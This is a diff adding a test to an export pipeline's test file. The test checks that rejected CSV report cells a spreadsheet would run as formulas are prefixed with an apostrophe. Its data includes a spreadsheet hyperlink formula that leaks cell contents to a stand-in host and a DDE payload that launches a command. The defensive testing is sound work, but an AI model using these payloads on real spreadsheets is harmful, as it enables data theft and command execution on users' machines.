@@ -189,6 +189,22 @@ def test_bytes_that_are_not_utf8_reject_their_row_only(services, workers, sandbo
     assert set(stored(sandbox)) == {f"person{i}@example.com" for i in (*range(1, 6), *range(8, 13))}
 
 
+def test_report_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(services, workers, sandbox, conn,
+                                                                             segment_container):
+    """Found as an attacker would: the rejects CSV wrote cells like =HYPERLINK(...) raw, and a
+    spreadsheet opening the report runs them. Such cells start with an apostrophe (OWASP's rule)."""
+    model_json(segment_container)
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+    quoted = [value.replace('"', '""') for value in hostile]  # as CSV writes a quote inside a quoted field
+    data = rows(*people(1, 3)) + rows(*((str(10 + i), "Eve", value, "LT") for i, value in enumerate(quoted)))
+    put(segment_container, part(), data)
+    run = run_export(export_of(conn, segment_container))
+    adds_up(run)
+    rejected = [r for r in report_rows(run["runId"]) if r["stage"] == "planning"]
+    assert sorted(r["email"] for r in rejected) == sorted("'" + v for v in hostile)
+    assert all(r["email"][0] == "'" for r in rejected)
+
+
 def test_a_header_row_that_is_not_utf8_is_refused_when_saved(services, sandbox, conn, segment_container):
     put(segment_container, part(), b"CustomerId,F\xfcrstName,PrimaryEmail,Country\r\n1,A,a@example.com,LT\r\n")
     text = problem_of(*save_export(conn, segment_container), 400)
